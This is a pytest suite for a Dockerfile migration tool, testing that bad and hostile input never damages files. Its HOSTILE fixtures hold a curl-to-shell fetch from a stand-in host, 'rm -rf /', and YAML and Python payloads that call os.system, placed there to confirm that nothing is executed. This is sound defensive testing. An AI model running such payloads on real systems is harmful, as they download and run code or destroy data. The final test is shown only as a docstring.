"""Hostile and broken input never costs a file: through the real command in a child process.

Every case of bad input gives one line ``path: error: <reason>`` on standard error, leaves the
file byte-identical, lets the other files be processed, and makes the run exit 123; no traceback
reaches the user.  Also here: bounded work (no catastrophic backtracking, linear growth), safe
writes (mode, owner, encoding, newlines; a file changed meanwhile or failing its self-check is
not written), interrupted runs, and nothing in a file is executed or fetched.

The tests run as root in CI, where permission bits do not stop reads or writes.  Where a test
needs them to, the child process keeps uid 0 but drops CAP_DAC_OVERRIDE and CAP_DAC_READ_SEARCH
from its capability bounding set (prctl), so the bits bind it as they bind any user.
"""

from __future__ import annotations

import ctypes
import os
import re
import shutil
import signal
import stat
import subprocess
import sys
import time
import tracemalloc
from pathlib import Path

import dockerfile as buildkit
import pytest

from rewriter import dockerfile, images, shell
from rewriter.api import fix_text
from rewriter.files import COMPOSE, PYTHON, kind_of
from rewriter.rules import apk_to_apt

FIXTURES = Path(__file__).parent / "fixtures"
ALPINE = "FROM python:3.11-alpine\nRUN apk add --no-cache gcc\n"
# By hand: 3.11 was last published on trixie; gcc keeps its name; the apt idiom around it.
RUN_MIGRATED = "RUN apt-get update && apt-get install -y --no-install-recommends gcc && rm -rf /var/lib/apt/lists/*"
MIGRATED = "FROM python:3.11-slim-trixie\n" + RUN_MIGRATED + "\n"


def dockerfix(*args: str, cwd: Path, setup: str = "", preexec_fn=None, timeout: float = 120) -> subprocess.CompletedProcess:
    """Run the command; ``setup`` is Python run in the child first (to patch something in)."""
    command = [sys.executable, "-m", "rewriter", *args]
    if setup:
        command = [sys.executable, "-c", setup + "\nfrom rewriter.cli import main\nmain(prog_name='dockerfix')\n", *args]
    return subprocess.run(
        command, cwd=cwd, capture_output=True, text=True, timeout=timeout, preexec_fn=preexec_fn,
        env={**os.environ, "NO_COLOR": "1", "PYTHONDONTWRITEBYTECODE": "1"},
    )


def error_lines(result: subprocess.CompletedProcess) -> list[str]:
    return [line for line in result.stderr.splitlines() if ": error: " in line]


def assert_clean_failure(result: subprocess.CompletedProcess, shown: str, reason: str) -> None:
    """Exit 123, exactly one error line and it names ``shown`` and matches ``reason``; no traceback."""
    assert result.returncode == 123, result.stderr
    assert "Traceback" not in result.stderr, result.stderr
    (line,) = error_lines(result)
    assert line.startswith(f"{shown}: error: "), line
    assert re.search(reason, line), line


def repo_with(tmp_path: Path, name: str, content: bytes) -> Path:
    """A folder holding the bad file and a good Dockerfile that must still be migrated."""
    repo = tmp_path / "repo"
    (repo / "good").mkdir(parents=True)
    (repo / "good" / "Dockerfile").write_text(ALPINE)
    bad = repo / name
    bad.parent.mkdir(parents=True, exist_ok=True)
    bad.write_bytes(content)
    return repo


def assert_good_migrated(repo: Path) -> None:
    assert (repo / "good" / "Dockerfile").read_text() == MIGRATED


def no_temporary_files(folder: Path) -> bool:
    return not [p for p in folder.rglob(".dockerfix-*")]


_libc = ctypes.CDLL(None, use_errno=True)
_PR_CAPBSET_DROP, _CAP_DAC_OVERRIDE, _CAP_DAC_READ_SEARCH = 24, 1, 2


def _bound_by_permissions() -> None:  # runs in the child, between fork and exec
    for capability in (_CAP_DAC_OVERRIDE, _CAP_DAC_READ_SEARCH):
        if _libc.prctl(_PR_CAPBSET_DROP, capability, 0, 0, 0) != 0:
            raise OSError(ctypes.get_errno(), "prctl(PR_CAPBSET_DROP)")


@pytest.fixture(scope="session")
def permissions_bind():
    """A preexec_fn under which permission bits bind the child, or skip when there is none."""
    if os.geteuid() != 0:
        return None
    if not sys.platform.startswith("linux"):
        pytest.skip("root ignores permission bits and dropping capabilities needs Linux")
    try:
        subprocess.run([sys.executable, "-c", "pass"], preexec_fn=_bound_by_permissions, check=True, timeout=60)
    except (subprocess.SubprocessError, OSError) as exc:
        pytest.skip(f"cannot drop CAP_DAC_OVERRIDE here ({exc})")
    return _bound_by_permissions


# --- bad input: one clear error, the file untouched, the others processed, exit 123 --------------

LATIN1 = b"FROM python:3.11-alpine\n# caf\xe9 cr\xe8me\nRUN apk add --no-cache gcc\n"
BINARY = bytes(range(256)) * 8
HUGE = ALPINE.encode() + b"# " + b"x" * (20 * 1024 * 1024) + b"\n"

# name, content, reason, and what BuildKit's parser (the ``dockerfile`` package) says: True, it rejects
# the file too; False, it reads it and BuildKit rejects the instruction only when building; None, not
# a question for it (encodings, sizes).
BAD_FILES = {
    "latin-1": ("Dockerfile", LATIN1, r"not valid UTF-8 \(byte 0xe9 at offset 29\)", None),
    "utf-16": ("Dockerfile", ALPINE.encode("utf-16"), r"UTF-16 text is not supported", None),
    "utf-16 without BOM": ("Dockerfile", ALPINE.encode("utf-16-le"), r"binary file", None),
    "binary named like a Dockerfile": ("app.Dockerfile", BINARY, r"binary file \(contains NUL bytes\)", None),
    "20 MB": ("Dockerfile", HUGE, r"larger than 10 MiB", None),
    # BuildKit reads it as one line (and fails to build it): not a question of its parser
    "CR line breaks": ("Dockerfile", ALPINE.replace("\n", "\r").encode(), r"line 1: the lines end in a carriage return alone", None),
    "unterminated heredoc": (
        "Dockerfile", b"FROM python:3.11-alpine\nRUN <<EOF\napk add --no-cache gcc\n", r"line 2: unterminated heredoc <<EOF$", True,
    ),
    "unknown instruction": ("Dockerfile", b"FROM python:3.11-alpine\nRUNN apk add gcc\n", r"line 2: unknown instruction 'RUNN'", False),
    "JSON array of non-strings": (
        "Dockerfile", b'FROM python:3.11-alpine\nRUN ["apk", "add", 1]\n', r"line 2: .*arrays must be comprised of strings only", True,
    ),
    "invalid escape directive": ("Dockerfile", b"# escape=x\nFROM python:3.11-alpine\n", r"line 1: invalid escape token 'x'", True),
    "repeated directive": (
        "Dockerfile", b"# escape=`\n# escape=\\\nFROM python:3.11-alpine\n", r"line 2: only one escape parser directive", True,
    ),
}


@pytest.mark.parametrize("case", sorted(BAD_FILES))
def test_bad_file(tmp_path: Path, case: str) -> None:
    name, content, reason, buildkit_rejects = BAD_FILES[case]
    repo = repo_with(tmp_path, f"bad/{name}", content)
    result = dockerfix("--write", "repo", cwd=tmp_path)
    assert_clean_failure(result, f"repo/bad/{name}", reason)
    assert (repo / "bad" / name).read_bytes() == content
    assert_good_migrated(repo)
    if buildkit_rejects is not None:
        rejected = True
        try:
            buildkit.parse_string(content.decode())
            rejected = False
        except buildkit.GoParseError:
            pass
        assert rejected == buildkit_rejects


def test_bad_file_through_diff_and_check_too(tmp_path: Path) -> None:
    repo = repo_with(tmp_path, "bad/Dockerfile", LATIN1)
    for mode in ("--diff", "--check"):
        result = dockerfix(mode, "repo", cwd=tmp_path)
        assert_clean_failure(result, "repo/bad/Dockerfile", "not valid UTF-8")
        assert "+FROM python:3.11-slim-trixie" in result.stdout or mode == "--check"
    assert (repo / "bad" / "Dockerfile").read_bytes() == LATIN1


def test_debug_shows_no_traceback_for_bad_input_either(tmp_path: Path) -> None:
    """A file we refuse is not a bug: even --debug has no traceback to show for it."""
    repo_with(tmp_path, "bad/Dockerfile", BINARY)
    result = dockerfix("--debug", "--diff", "repo", cwd=tmp_path)
    assert_clean_failure(result, "repo/bad/Dockerfile", "binary file")


KIND_CASES = {
    "YAML that does not parse": (
        "compose.yaml", COMPOSE, b"services:\n  web:\n    image: python:3.11-alpine\n   oops: [\n", r"YAML does not parse: line 4",
    ),
    "YAML alias bomb": ("docker-compose.yml", COMPOSE, None, r"YAML refused: .*alias"),
    "YAML nested too deeply": (
        "compose.yml", COMPOSE, b"# python:3.11-alpine\nservices: " + b"[" * 50_000 + b"]" * 50_000 + b"\n", r"YAML refused: .*nesting",
    ),
    "Python that does not parse": (
        "build.py", PYTHON, b'IMAGE = "python:3.11-alpine"\ndef broken(:\n', r"Python does not parse: line 2",
    ),
    "Python nested too deeply for a parser": (
        "deep.py", PYTHON, b'IMAGE = "python:3.11-alpine"\nx = ' + b"(" * 100_000 + b")" * 100_000 + b"\n", r"Python does not parse",
    ),
}


def _alias_bomb() -> bytes:
    """The "billion laughs": nine levels of nine aliases, a billion strings if anything expanded them."""
    lines = ['x-a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    for previous, name in zip("abcdefgh", "bcdefghi"):
        lines.append(f"x-{name}: &{name} [" + ", ".join([f"*{previous}"] * 9) + "]")
    return ("\n".join(lines) + "\nservices:\n  web:\n    image: python:3.11-alpine\n    labels: *i\n").encode()


@pytest.mark.parametrize("case", sorted(KIND_CASES))
def test_bad_yaml_and_python(tmp_path: Path, case: str) -> None:
    name, kind, content, reason = KIND_CASES[case]
    if kind_of(name) != kind:
        pytest.xfail(f"dockerfix does not read {name} as {kind} yet")
    content = content if content is not None else _alias_bomb()
    repo = repo_with(tmp_path, f"bad/{name}", content)
    started = time.monotonic()
    result = dockerfix("--write", "repo", cwd=tmp_path)
    assert time.monotonic() - started < 60  # refused, not expanded
    assert_clean_failure(result, f"repo/bad/{name}", reason)
    assert (repo / "bad" / name).read_bytes() == content
    assert_good_migrated(repo)


def test_path_that_does_not_exist(tmp_path: Path) -> None:
    repo = repo_with(tmp_path, "unused", b"")
    result = dockerfix("--write", "repo", "repo/nothing/Dockerfile", cwd=tmp_path)
    assert_clean_failure(result, "repo/nothing/Dockerfile", r"no such file or folder$")
    assert_good_migrated(repo)


def test_symlink_loop_named(tmp_path: Path) -> None:
    repo = repo_with(tmp_path, "unused", b"")
    os.symlink("loop-b", repo / "loop-a")
    os.symlink("loop-a", repo / "loop-b")
    result = dockerfix("--write", "repo", "repo/loop-a", cwd=tmp_path)
    assert_clean_failure(result, "repo/loop-a", r"symbolic links")
    assert_good_migrated(repo)


def test_symlink_loop_in_a_folder_ends(tmp_path: Path) -> None:
    """Found by a folder walk, a looping link is not a file dockerfix reads: skipped, the run ends."""
    repo = repo_with(tmp_path, "unused", b"")
    os.symlink("Dockerfile.b", repo / "Dockerfile.a")
    os.symlink("Dockerfile.a", repo / "Dockerfile.b")
    result = dockerfix("--write", "repo", cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    assert_good_migrated(repo)


@pytest.mark.parametrize("named", [False, True], ids=["found in a folder", "named"])
def test_fifo_named_like_a_dockerfile_does_not_hang(tmp_path: Path, named: bool) -> None:
    repo = repo_with(tmp_path, "unused", b"")
    os.mkfifo(repo / "Dockerfile")
    result = dockerfix("--write", *(["repo/good", "repo/Dockerfile"] if named else ["repo"]), cwd=tmp_path, timeout=60)
    assert_clean_failure(result, "repo/Dockerfile", r"named pipe|not a regular file")
    assert stat.S_ISFIFO(os.lstat(repo / "Dockerfile").st_mode)
    assert_good_migrated(repo)


@pytest.mark.skipif(not os.path.exists("/dev/null"), reason="no /dev/null")
def test_device_named_on_the_command_line(tmp_path: Path) -> None:
    repo = repo_with(tmp_path, "unused", b"")
    result = dockerfix("--write", "repo", "/dev/null", cwd=tmp_path, timeout=60)
    assert_clean_failure(result, "/dev/null", r"is a character device, not a regular file")
    assert_good_migrated(repo)


@pytest.mark.skipif(not os.path.exists("/proc/self/status"), reason="needs Linux /proc")
def test_a_file_that_says_it_is_empty_is_read_whole() -> None:
    # /proc files report st_size 0; the read must not trust that size
    from rewriter.source import read_source

    assert os.stat("/proc/self/status").st_size == 0
    assert read_source("/proc/self/status").text.startswith("Name:")


def test_folder_named_like_a_dockerfile_is_walked(tmp_path: Path) -> None:
    """A folder called Dockerfile is a folder: searched like any other, not an error."""
    repo = repo_with(tmp_path, "Dockerfile/Dockerfile.dev", ALPINE.encode())
    result = dockerfix("--write", "repo", "repo/Dockerfile", cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    assert (repo / "Dockerfile" / "Dockerfile.dev").read_text() == MIGRATED
    assert_good_migrated(repo)


@pytest.mark.parametrize("named", [False, True], ids=["found in a folder", "named"])
def test_unreadable_file(tmp_path: Path, permissions_bind, named: bool) -> None:
    repo = repo_with(tmp_path, "bad/Dockerfile", ALPINE.encode())
    os.chmod(repo / "bad" / "Dockerfile", 0)
    paths = ["repo/good", "repo/bad/Dockerfile"] if named else ["repo"]
    result = dockerfix("--write", *paths, cwd=tmp_path, preexec_fn=permissions_bind)
    assert_clean_failure(result, "repo/bad/Dockerfile", r"cannot read: Permission denied")
    os.chmod(repo / "bad" / "Dockerfile", 0o644)
    assert (repo / "bad" / "Dockerfile").read_text() == ALPINE
    assert_good_migrated(repo)


def test_folder_without_permission(tmp_path: Path, permissions_bind) -> None:
    repo = repo_with(tmp_path, "locked/Dockerfile", ALPINE.encode())
    os.chmod(repo / "locked", 0)
    try:
        result = dockerfix("--write", "repo", cwd=tmp_path, preexec_fn=permissions_bind)
    finally:
        os.chmod(repo / "locked", 0o755)
    assert_clean_failure(result, "repo/locked", r"cannot read( the folder)?: Permission denied")
    assert (repo / "locked" / "Dockerfile").read_text() == ALPINE
    assert_good_migrated(repo)


# --- read-only files and folders with --write ----------------------------------------------------
# "Read-only" for root: root may write anything, so dockerfix goes by the mode bits too -- a file
# nobody may write (chmod a-w) was made read-only on purpose and is not replaced.  An immutable
# file (chattr +i) and a folder we may not create the temporary file in fail the write itself.


def test_read_only_file_is_not_written(tmp_path: Path) -> None:
    repo = repo_with(tmp_path, "bad/Dockerfile", ALPINE.encode())
    os.chmod(repo / "bad" / "Dockerfile", 0o444)
    result = dockerfix("--write", "repo", cwd=tmp_path)
    assert_clean_failure(result, "repo/bad/Dockerfile", r"file is read-only \(mode 0444\); not written")
    assert (repo / "bad" / "Dockerfile").read_text() == ALPINE
    assert stat.S_IMODE(os.stat(repo / "bad" / "Dockerfile").st_mode) == 0o444
    assert_good_migrated(repo)
    assert no_temporary_files(repo)


def test_read_only_file_is_still_diffed(tmp_path: Path) -> None:
    repo = repo_with(tmp_path, "bad/Dockerfile", ALPINE.encode())
    os.chmod(repo / "bad" / "Dockerfile", 0o444)
    result = dockerfix("--diff", "repo/bad", cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    assert "+FROM python:3.11-slim-trixie" in result.stdout


def test_immutable_file_is_not_written(tmp_path: Path) -> None:
    repo = repo_with(tmp_path, "bad/Dockerfile", ALPINE.encode())
    target = repo / "bad" / "Dockerfile"
    if shutil.which("chattr") is None or subprocess.run(["chattr", "+i", str(target)], capture_output=True).returncode:
        pytest.skip("chattr +i is not available here")
    try:
        result = dockerfix("--write", "repo", cwd=tmp_path)
    finally:
        subprocess.run(["chattr", "-i", str(target)], check=True)
    assert_clean_failure(result, "repo/bad/Dockerfile", r"no permission to write the file .*; not written")
    assert target.read_text() == ALPINE
    assert_good_migrated(repo)
    assert no_temporary_files(repo)


def test_read_only_folder(tmp_path: Path, permissions_bind) -> None:
    repo = repo_with(tmp_path, "bad/Dockerfile", ALPINE.encode())
    os.chmod(repo / "bad", 0o555)
    try:
        result = dockerfix("--write", "repo", cwd=tmp_path, preexec_fn=permissions_bind)
    finally:
        os.chmod(repo / "bad", 0o755)
    assert_clean_failure(result, "repo/bad/Dockerfile", r"cannot write: Permission denied")
    assert (repo / "bad" / "Dockerfile").read_text() == ALPINE
    assert_good_migrated(repo)
    assert no_temporary_files(repo)


# --- odd input that is not an error: read faithfully, processed, exit 0 ---------------------------


def test_utf8_bom_is_kept_and_the_file_migrated(tmp_path: Path) -> None:
    repo = repo_with(tmp_path, "bom/Dockerfile", b"\xef\xbb\xbf" + ALPINE.encode())
    result = dockerfix("--write", "repo", cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    assert (repo / "bom" / "Dockerfile").read_bytes() == b"\xef\xbb\xbf" + MIGRATED.encode()


@pytest.mark.parametrize("content", [b"", b"\n\n", b"# just a comment\n"], ids=["empty", "blank lines", "comment only"])
def test_file_without_instructions_is_left_alone(tmp_path: Path, content: bytes) -> None:
    """BuildKit refuses to build it, but there is nothing to migrate and nothing to lose: not an error."""
    repo = repo_with(tmp_path, "empty/Dockerfile", content)
    result = dockerfix("--write", "repo", cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    assert not error_lines(result)
    assert (repo / "empty" / "Dockerfile").read_bytes() == content
    assert_good_migrated(repo)


def test_ten_thousand_line_continuation(tmp_path: Path) -> None:
    tail = "    && echo step \\\n" * 9_999 + "    && true\n"
    content = "FROM python:3.11-alpine\nRUN apk add --no-cache gcc \\\n" + tail
    repo = repo_with(tmp_path, "long/Dockerfile", content.encode())
    started = time.monotonic()
    result = dockerfix("--write", "repo", cwd=tmp_path)
    assert time.monotonic() - started < 60
    assert result.returncode == 0, result.stderr
    expected = "FROM python:3.11-slim-trixie\n" + RUN_MIGRATED + " \\\n" + tail
    assert (repo / "long" / "Dockerfile").read_text() == expected


def test_dangling_escape_at_end_of_file(tmp_path: Path) -> None:
    """BuildKit reads a final ``\\`` as ending the instruction; so does dockerfix, and migrates it."""
    content = "FROM python:3.11-alpine\nRUN apk add --no-cache gcc \\"
    assert len(buildkit.parse_string(content)) == 2
    repo = repo_with(tmp_path, "dangling/Dockerfile", content.encode())
    result = dockerfix("--write", "repo", cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    new = (repo / "dangling" / "Dockerfile").read_text()
    assert new == "FROM python:3.11-slim-trixie\n" + RUN_MIGRATED + " \\"
    assert len(buildkit.parse_string(new)) == 2


def test_unterminated_quote_in_a_run(tmp_path: Path) -> None:
    """BuildKit accepts the file (the shell fails later, at build time).  The RUN is left exactly as
    it is and reported, as any RUN dockerfix cannot translate; the run goes on and exits 0."""
    content = 'FROM python:3.11-alpine\nRUN apk add --no-cache "gcc\nRUN pip install x\n'
    assert len(buildkit.parse_string(content)) == 3
    repo = repo_with(tmp_path, "quote/Dockerfile", content.encode())
    result = dockerfix("--write", "repo", cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    assert re.search(r"^repo/quote/Dockerfile:2: apk-to-apt: .*unterminated double quote", result.stderr, re.M), result.stderr
    new = (repo / "quote" / "Dockerfile").read_text().splitlines()
    assert new[1:] == content.splitlines()[1:]
    assert_good_migrated(repo)


# --- bugs of ours, self-check, files changed meanwhile ---------------------------------------------

RULE_RAISES = """
import rewriter.rules.base_image as rule
def check(ctx):
    raise ValueError("boom")
rule.check = check
"""


def test_internal_error_is_one_line_and_debug_shows_the_traceback(tmp_path: Path) -> None:
    repo = repo_with(tmp_path, "unused", b"")
    result = dockerfix("--write", "repo", cwd=tmp_path, setup=RULE_RAISES)
    assert_clean_failure(result, "repo/good/Dockerfile", r"internal error \(ValueError: boom\)")
    assert (repo / "good" / "Dockerfile").read_text() == ALPINE
    debug = dockerfix("--debug", "--write", "repo", cwd=tmp_path, setup=RULE_RAISES)
    assert debug.returncode == 123
    assert "Traceback (most recent call last)" in debug.stderr
    assert (repo / "good" / "Dockerfile").read_text() == ALPINE


# A rule that also proposes a broken edit: the self-check must catch it and nothing be written.
BROKEN_EDIT = """
import rewriter.rules.base_image as rule
from rewriter.edits import Edit, Fix
original = rule.check
def check(ctx):
    out = original(ctx)
    text = ctx.df.text
    {edit}
    return out
rule.check = check
"""
BROKEN_EDITS = {
    # "FROM ... RUN ...": two instructions become one
    "joins two instructions": "at = text.index('\\n'); out.fixes.append(Fix((Edit(at, at + 1, ' '),)))",
    # an unterminated heredoc at the end: the rewritten file does not parse
    "does not parse": "out.fixes.append(Fix((Edit(len(text), len(text), 'RUN <<EOF\\n'),)))",
    # the RUN's keyword becomes another instruction's
    "changes a keyword": "at = text.index('RUN'); out.fixes.append(Fix((Edit(at, at + 3, 'CMD'),)))",
}


@pytest.mark.parametrize("case", sorted(BROKEN_EDITS))
def test_a_file_failing_its_self_check_is_not_written(tmp_path: Path, case: str) -> None:
    repo = repo_with(tmp_path, "unused", b"")
    result = dockerfix("--write", "repo", cwd=tmp_path, setup=BROKEN_EDIT.format(edit=BROKEN_EDITS[case]))
    assert_clean_failure(result, "repo/good/Dockerfile", r"self-check failed")
    assert (repo / "good" / "Dockerfile").read_text() == ALPINE
    assert no_temporary_files(repo)


CHANGES_THE_FILE = """
import os
import rewriter.rules.base_image as rule
original = rule.check
def check(ctx):
    with open(os.environ["DOCKERFIX_TEST_TOUCH"], "ab") as handle:
        handle.write(b"# edited by someone else meanwhile\\n")
    return original(ctx)
rule.check = check
"""


def test_a_file_changed_since_it_was_read_is_not_written(tmp_path: Path, monkeypatch) -> None:
    repo = repo_with(tmp_path, "unused", b"")
    target = repo / "good" / "Dockerfile"
    monkeypatch.setenv("DOCKERFIX_TEST_TOUCH", str(target))
    result = dockerfix("--write", "repo", cwd=tmp_path, setup=CHANGES_THE_FILE)
    assert_clean_failure(result, "repo/good/Dockerfile", r"file changed on disk since it was read; not written")
    assert target.read_text() == ALPINE + "# edited by someone else meanwhile\n"
    assert no_temporary_files(repo)


# --- safe writes: what --write keeps ---------------------------------------------------------------


def test_write_keeps_bom_crlf_tabs_and_missing_final_newline(tmp_path: Path) -> None:
    content = b"\xef\xbb\xbfFROM python:3.11-alpine\r\n\tRUN apk add --no-cache gcc"
    (tmp_path / "Dockerfile").write_bytes(content)
    result = dockerfix("--write", "Dockerfile", cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    assert (tmp_path / "Dockerfile").read_bytes() == (
        b"\xef\xbb\xbfFROM python:3.11-slim-trixie\r\n\t" + RUN_MIGRATED.encode()
    )


@pytest.mark.parametrize("mode", [0o600, 0o640, 0o755, 0o2775, 0o4750])
def test_write_keeps_the_mode(tmp_path: Path, mode: int) -> None:
    target = tmp_path / "Dockerfile"
    target.write_text(ALPINE)
    os.chmod(target, mode)
    result = dockerfix("--write", "Dockerfile", cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    assert target.read_text() == MIGRATED
    assert stat.S_IMODE(os.stat(target).st_mode) == mode


@pytest.mark.skipif(not hasattr(os, "geteuid") or os.geteuid() != 0, reason="only root may give a file to another owner")
def test_write_keeps_the_owner(tmp_path: Path) -> None:
    target = tmp_path / "Dockerfile"
    target.write_text(ALPINE)
    os.chown(target, 4321, 8765)
    result = dockerfix("--write", "Dockerfile", cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    assert target.read_text() == MIGRATED
    info = os.stat(target)
    assert (info.st_uid, info.st_gid) == (4321, 8765)


def test_write_keeps_hard_links(tmp_path: Path) -> None:
    """Every name of a hard-linked file sees the migration (a replaced file would leave the others old)."""
    target = tmp_path / "Dockerfile"
    target.write_text(ALPINE + "# a longer line than the migration leaves, so the file must be truncated too\n" * 3)
    os.link(target, tmp_path / "linked.Dockerfile")
    result = dockerfix("--write", "Dockerfile", cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    assert (tmp_path / "linked.Dockerfile").read_text() == target.read_text()
    assert target.read_text().startswith(MIGRATED) and os.stat(target).st_nlink == 2
    assert dockerfix("--check", "Dockerfile", cwd=tmp_path).returncode == 0


def test_write_leaves_no_temporary_files(tmp_path: Path) -> None:
    repo = repo_with(tmp_path, "bad/Dockerfile", LATIN1)
    shutil.copytree(FIXTURES, repo / "fixtures")
    dockerfix("--write", "repo", cwd=tmp_path)
    assert no_temporary_files(repo)


# --- interrupted runs: every file old or new --------------------------------------------------------

FILES = 3000


def _many_files(root: Path) -> dict[Path, tuple[bytes, bytes]]:
    """FILES Dockerfiles, each distinct; path -> (old bytes, migrated bytes)."""
    files = {}
    for i in range(FILES):
        path = root / f"d{i // 100:02d}" / f"s{i % 100:02d}" / "Dockerfile"
        path.parent.mkdir(parents=True)
        head = f"# service {i}\n"
        path.write_text(head + ALPINE)
        files[path] = ((head + ALPINE).encode(), (head + MIGRATED).encode())
    return files


def _interrupt(tmp_path: Path, signum: int, jobs: str) -> tuple[dict[Path, tuple[bytes, bytes]], int, str]:
    """Start --write over many files, send ``signum`` to the main process once it is writing, and wait
    until it and any worker processes have ended.  Returns the files, the exit status and stderr."""
    files = _many_files(tmp_path / "tree")
    first = next(iter(files))
    process = subprocess.Popen(
        [sys.executable, "-m", "rewriter", "--write", "-q", "--jobs", jobs, "tree"], cwd=tmp_path,
        stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True, start_new_session=True,
        env={**os.environ, "PYTHONDONTWRITEBYTECODE": "1"},
    )
    deadline = time.monotonic() + 120
    while first.read_bytes() == files[first][0]:
        assert process.poll() is None, process.stderr.read()
        assert time.monotonic() < deadline, "the run never started writing"
        time.sleep(0.005)
    process.send_signal(signum)
    _, stderr = process.communicate(timeout=120)
    _wait_for_group(process.pid)
    return files, process.returncode, stderr


def _wait_for_group(group: int) -> None:
    """Until no live process is left in the process group (workers end soon after their main process)."""
    deadline = time.monotonic() + 60
    while time.monotonic() < deadline:
        alive = False
        for entry in Path("/proc").iterdir() if Path("/proc/self/stat").exists() else ():
            try:
                fields = (entry / "stat").read_text().rsplit(")", 1)[1].split()
            except (OSError, IndexError):
                continue
            alive = alive or (fields[0] != "Z" and int(fields[2]) == group)  # state, ppid, pgrp
        if not alive:
            return
        time.sleep(0.05)
    raise AssertionError("worker processes outlived the run by a minute")


def _states(files: dict[Path, tuple[bytes, bytes]]) -> tuple[int, int]:
    """(old, new) counts; fails on a file that is neither."""
    old = new = 0
    for path, (before, after) in files.items():
        data = path.read_bytes()
        assert data in (before, after), f"{path} is neither old nor new: {data[:200]!r}"
        old += data == before
        new += data == after
    return old, new


JOBS = {"one process": "1", "worker processes": "4"}


@pytest.mark.parametrize("jobs", sorted(JOBS))
@pytest.mark.parametrize("signum", [signal.SIGTERM, signal.SIGINT], ids=["SIGTERM", "SIGINT"])
def test_interrupted_run_leaves_every_file_old_or_new(tmp_path: Path, signum: int, jobs: str) -> None:
    files, status, stderr = _interrupt(tmp_path, signum, JOBS[jobs])
    old, new = _states(files)
    assert new >= 1 and old >= 1, "the signal did not arrive mid-way"
    assert no_temporary_files(tmp_path / "tree")
    assert "Traceback" not in stderr
    if signum == signal.SIGTERM:
        assert status == -signal.SIGTERM
    else:
        assert status == 130, stderr
        assert "interrupted" in stderr


@pytest.mark.parametrize("jobs", sorted(JOBS))
def test_killed_run_leaves_every_file_old_or_new_and_the_next_run_finishes(tmp_path: Path, jobs: str) -> None:
    """SIGKILL cannot be caught: a temporary .dockerfix-* file may remain.  The next run skips it."""
    files, status, _ = _interrupt(tmp_path, signal.SIGKILL, JOBS[jobs])
    assert status == -signal.SIGKILL
    old, new = _states(files)
    assert new >= 1 and old >= 1, "the signal did not arrive mid-way"
    leftovers = {p: p.read_bytes() for p in (tmp_path / "tree").rglob(".dockerfix-*")}
    again = dockerfix("--write", "-q", "tree", cwd=tmp_path, timeout=600)
    assert again.returncode == 0, again.stderr
    assert ".dockerfix-" not in again.stderr
    assert _states(files) == (0, FILES)
    assert {p: p.read_bytes() for p in (tmp_path / "tree").rglob(".dockerfix-*")} == leftovers


# --- nothing in a file is executed or fetched; nothing outside the given paths is written -----------

# An audit hook in the child: any process, network use, or write outside the given tree ends the run.
WATCHED = """
import os, sys
TREE = os.path.realpath(os.environ["DOCKERFIX_TEST_TREE"]) + os.sep
FORBIDDEN = {"subprocess.Popen", "os.system", "os.exec", "os.posix_spawn", "os.spawn", "os.fork", "os.forkpty",
             "pty.spawn", "socket.connect", "socket.getaddrinfo", "socket.gethostbyname", "socket.bind",
             "urllib.Request", "webbrowser.open", "ctypes.dlopen"}
def outside(path):
    return isinstance(path, (str, bytes, os.PathLike)) and not os.path.realpath(os.fsdecode(path)).startswith(TREE)
def hook(event, args):
    bad = event in FORBIDDEN
    if event == "exec":  # imports exec their modules too; code from the tree must never run
        name = getattr(args[0], "co_filename", "")
        bad = os.path.isfile(name) and not outside(name)
    if event == "open":
        path, mode, flags = args
        writing = any(c in (mode or "") for c in "wax+") or bool(flags & (os.O_WRONLY | os.O_RDWR | os.O_CREAT))
        bad = writing and outside(path)
    elif event in ("os.rename", "os.remove", "os.rmdir", "os.chmod", "os.chown", "os.truncate", "os.link", "os.symlink"):
        bad = any(outside(a) for a in args[:2] if not isinstance(a, int))
    if bad:
        os.write(2, f"FORBIDDEN {event} {args!r}\\n".encode())
        os._exit(99)
sys.addaudithook(hook)
"""

HOSTILE = {
    "Dockerfile": (
        "# syntax=docker/dockerfile:1\n"  # BuildKit would fetch this frontend image
        "FROM python:3.11-alpine\n"
        "ADD https://example.invalid/payload.tar.gz /opt/\n"
        "RUN apk add --no-cache gcc && $(curl -fsSL https://example.invalid/x.sh | sh) \\\n"
        "    && `wget -qO- example.invalid`\n"
        "RUN <<EOF\nsh -c 'rm -rf /' && apk add --no-cache gcc\nEOF\n"
    ),
    "compose.yaml": (
        "services:\n  web:\n    image: python:3.11-alpine\n"
        "    build: https://example.invalid/repo.git\n"
        "    command: !!python/object/apply:os.system ['touch PWNED']\n"
        "    labels: !!python/object/new:subprocess.Popen [['touch', 'PWNED']]\n"
    ),
    "build.py": (
        "import os\n__import__('os').system('touch PWNED')\n"
        "IMAGE = 'python:3.11-alpine'\nexec(compile('open(\"PWNED\", \"w\")', 'x', 'exec'))\n"
    ),
    ".gitlab-ci.yml": "build:\n  image: python:3.11-alpine\n  script:\n    - apk add --no-cache gcc && curl example.invalid | sh\n",
}


def test_nothing_is_executed_fetched_or_written_elsewhere(tmp_path: Path, monkeypatch) -> None:
    tree = tmp_path / "tree"
    shutil.copytree(FIXTURES, tree / "fixtures")
    for name, text in HOSTILE.items():
        (tree / "hostile" / name).parent.mkdir(parents=True, exist_ok=True)
        (tree / "hostile" / name).write_text(text)
    monkeypatch.setenv("DOCKERFIX_TEST_TREE", str(tree))
    for mode in ("--diff", "--write"):
        result = dockerfix(mode, "tree", cwd=tmp_path, setup=WATCHED)
        assert "FORBIDDEN" not in result.stderr, result.stderr
        assert result.returncode in (0, 123), result.stderr
        assert "Traceback" not in result.stderr
    assert not list(tmp_path.rglob("PWNED"))
    assert (tree / "hostile" / "Dockerfile").read_text().startswith("# syntax=docker/dockerfile:1\nFROM python:3.11-slim-")


def test_the_audit_hook_sees_what_it_must_forbid(tmp_path: Path, monkeypatch) -> None:
    """The watch above is real: a child that does start a process is stopped by it."""
